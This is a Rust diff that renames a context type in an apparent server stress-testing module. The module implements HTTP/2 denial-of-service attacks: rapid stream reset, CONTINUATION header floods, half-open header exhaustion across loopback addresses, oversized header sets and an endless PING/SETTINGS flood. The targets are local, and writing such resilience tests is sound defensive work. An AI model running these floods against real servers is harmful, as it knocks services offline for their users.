@@ -6,8 +6,8 @@ use futures::future::join_all;
 
 use super::stock::{Findings, nothing};
 use crate::attack::Attack;
+use crate::context::{AttackContext, LAIR};
 use crate::door::{RawFrames, fields};
-use crate::field::{AttackField, LAIR};
 
 /// Connections at a time.
 const LANES: usize = 8;
@@ -33,16 +33,16 @@ pub fn all() -> Vec<Attack> {
     ]
 }
 
-async fn rapid_reset(field: AttackField) -> Findings {
-    let block = block(&field, &[]);
-    each(&field, move |field| {
+async fn rapid_reset(context: AttackContext) -> Findings {
+    let block = block(&context, &[]);
+    each(&context, move |context| {
         let block = block.clone();
         async move {
-            let mut frames = open(&field).await?.listen();
+            let mut frames = open(&context).await?.listen();
             for stream in (1..200_001).step_by(2) {
                 frames.request(stream, &block).await?;
                 frames.cancel(stream).await?;
-                field.count("reset");
+                context.count("reset");
             }
             Ok(())
         }
@@ -50,15 +50,15 @@ async fn rapid_reset(field: AttackField) -> Findings {
     .await
 }
 
-async fn continuation(field: AttackField) -> Findings {
+async fn continuation(context: AttackContext) -> Findings {
     let long = "x".repeat(1 << 20);
-    let block = block(&field, &[("x", &long)]);
-    each(&field, move |field| {
+    let block = block(&context, &[("x", &long)]);
+    each(&context, move |context| {
         let block = block.clone();
         async move {
-            let mut frames = open(&field).await?.listen();
+            let mut frames = open(&context).await?.listen();
             frames.long_request(1, &block, false).await?;
-            field.count("block");
+            context.count("block");
             for _ in 0..64 {
                 frames.more(1, &block).await?;
             }
@@ -69,25 +69,25 @@ async fn continuation(field: AttackField) -> Findings {
 }
 
 /// The tenant of each connection is known by a whole request before.
-async fn half_heads(field: AttackField) -> Findings {
-    let whole = block(&field, &[]);
+async fn half_heads(context: AttackContext) -> Findings {
+    let whole = block(&context, &[]);
     let names: Vec<String> = (0..FIELDS).map(|at| format!("h{at}")).collect();
     let more: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "")).collect();
-    let half = block(&field, &more);
-    let before = field.setup.resident();
-    let held = join_all((0..HALF.0).map(|at| from_address(&field, at, &whole, &half))).await;
-    field.wait().await;
-    let more = field.setup.resident().saturating_sub(before);
-    field.say(format!("the server took {more} MiB more"));
+    let half = block(&context, &more);
+    let before = context.setup.resident();
+    let held = join_all((0..HALF.0).map(|at| from_address(&context, at, &whole, &half))).await;
+    context.wait().await;
+    let more = context.setup.resident().saturating_sub(before);
+    context.say(format!("the server took {more} MiB more"));
     drop(held);
     nothing()
 }
 
-async fn from_address(field: &AttackField, at: u8, whole: &[u8], half: &[u8]) -> Vec<RawFrames> {
+async fn from_address(context: &AttackContext, at: u8, whole: &[u8], half: &[u8]) -> Vec<RawFrames> {
     let (from, mut held) = (Ipv4Addr::new(127, 0, 1, at), Vec::new());
     for _ in 0..HALF.1 {
         let opened = async {
-            let mut frames = RawFrames::open(&field.setup.direct, from, &[]).await?.listen();
+            let mut frames = RawFrames::open(&context.setup.direct, from, &[]).await?.listen();
             frames.request(1, whole).await?;
             frames.long_request(3, half, false).await?;
             frames.flush().await?;
@@ -95,26 +95,26 @@ async fn from_address(field: &AttackField, at: u8, whole: &[u8], half: &[u8]) ->
         };
         match opened.await {
             Ok(frames) => {
-                field.count("half");
+                context.count("half");
                 held.push(frames);
             }
-            Err(_) => field.count("broken"),
+            Err(_) => context.count("broken"),
         }
     }
     held
 }
 
-async fn many_fields(field: AttackField) -> Findings {
+async fn many_fields(context: AttackContext) -> Findings {
     let names: Vec<String> = (0..4_000).map(|at| format!("h{at}")).collect();
     let more: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "v")).collect();
-    let block = block(&field, &more);
-    each(&field, move |field| {
+    let block = block(&context, &more);
+    each(&context, move |context| {
         let block = block.clone();
         async move {
-            let mut frames = open(&field).await?.listen();
+            let mut frames = open(&context).await?.listen();
             for stream in (1..2_001).step_by(2) {
                 frames.long_request(stream, &block, true).await?;
-                field.count("request");
+                context.count("request");
             }
             frames.flush().await
         }
@@ -122,34 +122,37 @@ async fn many_fields(field: AttackField) -> Findings {
     .await
 }
 
-async fn control(field: AttackField) -> Findings {
-    each(&field, move |field| async move {
-        let mut frames = open(&field).await?;
+async fn control(context: AttackContext) -> Findings {
+    each(&context, move |context| async move {
+        let mut frames = open(&context).await?;
         loop {
             frames.ping().await?;
             frames.settings().await?;
-            field.count("frame");
+            context.count("frame");
         }
     })
     .await
 }
 
-async fn each<F>(field: &AttackField, attack: impl Fn(AttackField) -> F + Send + Sync + 'static) -> Findings
+async fn each<F>(
+    context: &AttackContext,
+    attack: impl Fn(AttackContext) -> F + Send + Sync + 'static,
+) -> Findings
 where
     F: Future<Output = anyhow::Result<()>> + Send,
 {
-    let own = field.clone();
-    field.storm(LANES, move |_, _| attack(own.clone())).await;
+    let own = context.clone();
+    context.storm(LANES, move |_, _| attack(own.clone())).await;
     nothing()
 }
 
-async fn open(field: &AttackField) -> anyhow::Result<RawFrames> {
-    RawFrames::open(&field.setup.direct, LAIR, &[]).await
+async fn open(context: &AttackContext) -> anyhow::Result<RawFrames> {
+    RawFrames::open(&context.setup.direct, LAIR, &[]).await
 }
 
-fn block(field: &AttackField, more: &[(&str, &str)]) -> Vec<u8> {
-    let authorization = format!("Bearer {}", field.tenant.account().token);
+fn block(context: &AttackContext, more: &[(&str, &str)]) -> Vec<u8> {
+    let authorization = format!("Bearer {}", context.tenant.account().token);
     let mut all = vec![("authorization", authorization.as_str())];
     all.extend(more);
-    fields(&field.setup.direct.authority(), &field.tenant.requests(), &all)
+    fields(&context.setup.direct.authority(), &context.tenant.requests(), &all)
 }
